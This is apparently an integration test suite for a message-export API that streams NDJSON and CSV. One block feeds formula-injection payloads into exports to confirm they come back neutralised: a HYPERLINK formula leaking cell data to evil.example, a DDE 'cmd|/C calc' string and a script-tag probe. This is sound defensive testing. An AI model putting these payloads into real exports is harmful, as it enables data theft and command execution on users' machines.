import { Database } from '#entities';
import { get as httpGet, type IncomingMessage } from 'node:http';
import { Client } from 'pg';
import request from 'supertest';
import { seed } from '../../tools/src/seed/seed.js';
import { newKey } from '../support/api-key.js';
import { get, send, SMS } from '../support/client.js';
import { eventually } from '../support/eventually.js';
import { RunningSystem } from '../support/running-system.js';

const MESSAGES = 12_000;
const PATH = '/api/v1/messages/export';
/** Looks in a row that find nothing new, before it counts as stopped. */
const QUIET_LOOKS = 20;

let system: RunningSystem;
beforeAll(async () => {
  system = await RunningSystem.start();
  const client = new Client({ connectionString: system.database.url });
  await client.connect();
  await seed(client, { messages: MESSAGES, conversations: 1_000, seed: 1 }, () => undefined);
  await client.end();
}, 60_000);
afterAll(() => system?.stop());

const fetched = (query: object) => request(system.url).get(PATH).query(query).buffer(true).parse(asText);

function asText(response: unknown, done: (error: Error | null, text: string) => void): void {
  const chunks: Buffer[] = [];
  (response as IncomingMessage)
    .on('data', (chunk: Buffer) => chunks.push(chunk))
    .on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
}

async function textOf(query: object): Promise<string> {
  return (await fetched(query).expect(200)).body as unknown as string;
}

/** The lines of a CSV file as RFC 4180 has them. */
function parsed(csv: string): string[][] {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  const lines: string[][] = [[]];
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    lines.at(-1)?.push(match[1] === undefined ? (match[2] as string) : match[1].replaceAll('""', '"'));
    if (match[3] === '\r\n') lines.push([]);
  }
  expect(lines.pop()).toEqual([]);
  return lines;
}

/** An answer that is read only when the test says so. */
function opened(query: string, secret?: string): Promise<IncomingMessage> {
  const headers = secret === undefined ? {} : { authorization: `Bearer ${secret}` };
  return new Promise((resolve, reject) =>
    httpGet(`${system.url}${PATH}?${query}`, { headers, agent: false }, resolve).on('error', reject),
  );
}

it('writes NDJSON as lists show the messages, all of them, newest first', async () => {
  const lines = (await textOf({ format: 'ndjson' })).trimEnd().split('\n');
  const { rows } = await system.database.pool.query<{ id: string }>(
    'SELECT id FROM messages ORDER BY id DESC',
  );
  const messages = lines.map((line) => JSON.parse(line) as { id: string });
  expect(messages.map(({ id }) => id)).toEqual(rows.map(({ id }) => id));
  expect(messages[0]).toEqual(await get(system.url, rows[0]?.id as string));
});

it('writes CSV with a header, of what the filters leave', async () => {
  const response = await fetched({ format: 'csv', error_code: '30003', type: 'sms' }).expect(200);
  expect(response.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="messages.csv"',
    'cache-control': 'no-store, no-transform',
  });
  const [header, ...lines] = parsed(response.body as unknown as string);
  expect(header?.slice(0, 6)).toEqual(['id', 'created_at', 'updated_at', 'direction', 'type', 'priority']);
  const { rows } = await system.database.pool.query<{ id: string; to: string }>(
    `SELECT id, to_address AS to FROM messages WHERE error->>'code' = '30003' AND type = 'sms' ORDER BY id DESC`,
  );
  const column = (name: string) => lines.map((line) => line[header?.indexOf(name) as number]);
  expect(rows.length).toBeGreaterThan(50);
  expect(column('id')).toEqual(rows.map(({ id }) => id));
  expect(column('to')).toEqual(rows.map(({ to }) => to));
  expect(new Set(column('error_code'))).toEqual(new Set(['30003']));
});

it('writes a header alone, or nothing, when nothing is found', async () => {
  const filter = { tag: 'nobody' };
  expect(parsed(await textOf(filter))).toHaveLength(1);
  expect(await textOf({ ...filter, format: 'ndjson' })).toBe('');
});

describe('hostile texts', () => {
  const BODIES = [
    `=HYPERLINK("http://evil.example/?"&A1,"click")`,
    '+1+cmd|/C calc',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '＝1+1',
    'one, "two"\r\nthree\n=4',
    '\u202eesrever\u200b',
    '<script>alert(1)</script>',
  ];

  it.each(BODIES.map((body, n) => [n, body] as const))(
    'come back as they were, and as no formula, case %d',
    async (n, body) => {
      const tag = `hostile ${n}`;
      await send(system.url, { ...SMS, body, tags: [tag], metadata: { '=key': body } });
      const csv = await textOf({ tag });
      expect(csv.startsWith('id,')).toBe(true);
      const [header, line] = parsed(csv);
      const cell = line?.[header?.indexOf('body') as number] as string;
      expect(cell.replace(/^'/, '')).toBe(body);
      for (const each of line ?? []) if (!/^\+\d+$/.test(each)) expect(each).not.toMatch(/^[=+\-@\t\r\n＝]/);
    },
  );
});

describe('a client', () => {
  /** How many statements were run for exports so far. */
  let asked = 0;
  beforeAll(() => {
    const database = system.api.get(Database, { strict: false });
    const run = database.run.bind(database) as Database['run'];
    database.run = (statement, values, on) => {
      if (statement.name === 'messages_that_fit') asked += 1;
      return run(statement, values, on);
    };
  });

  async function untilQuiet(): Promise<number> {
    let [last, looks] = [-1, 0];
    await eventually(() => {
      looks = asked === last ? looks + 1 : 0;
      last = asked;
      expect(looks).toBeGreaterThan(QUIET_LOOKS);
    });
    return asked;
  }

  it('that stops reading is waited for, and its messages are not read meanwhile', async () => {
    const before = asked;
    const response = await opened('format=ndjson');
    expect(response.statusCode).toBe(200);
    const read = (await untilQuiet()) - before;
    expect(read).toBeLessThan(MESSAGES / 500);
    let length = 0;
    for await (const chunk of response) length += (chunk as Buffer).length;
    expect(asked - before).toBe(MESSAGES / 500 + 1);
    expect(length).toBeGreaterThan(MESSAGES * 500);
  });

  it('that goes away ends it', async () => {
    const before = asked;
    const response = await opened('format=ndjson');
    response.destroy();
    expect((await untilQuiet()) - before).toBeLessThan(MESSAGES / 500);
  });

  it('whose key is revoked gets no more, and sees that it is not all', async () => {
    const { id, secret } = await newKey(system, ['read']);
    const response = await opened('format=ndjson', secret);
    await untilQuiet();
    await system.database.pool.query('UPDATE api_keys SET revoked_at = now() WHERE id = $1', [id]);
    await expect(
      (async () => {
        for await (const _ of response);
      })(),
    ).rejects.toThrow('aborted');
    await system.database.pool.query('DELETE FROM api_keys');
  });

  it('has a few at a time', async () => {
    const streams = await Promise.all(Array.from({ length: 5 }, () => opened('format=ndjson')));
    expect(new Set(streams.map(({ statusCode }) => statusCode))).toEqual(new Set([200]));
    await request(system.url).get(PATH).expect(429);
    for (const stream of streams) stream.destroy();
    await eventually(
      async () => void (await request(system.url).get(PATH).query({ tag: 'outage-notice' }).expect(200)),
    );
  });
});

it('answers a HEAD, and refuses what is wrong', async () => {
  await request(system.url).head(PATH).expect(200);
  await request(system.url).get(PATH).query({ format: 'xlsx' }).expect(422);
  await request(system.url).get(PATH).query({ status: 'lost' }).expect(422);
  await request(system.url).get(PATH).query({ cursor: '' }).expect(422);
});
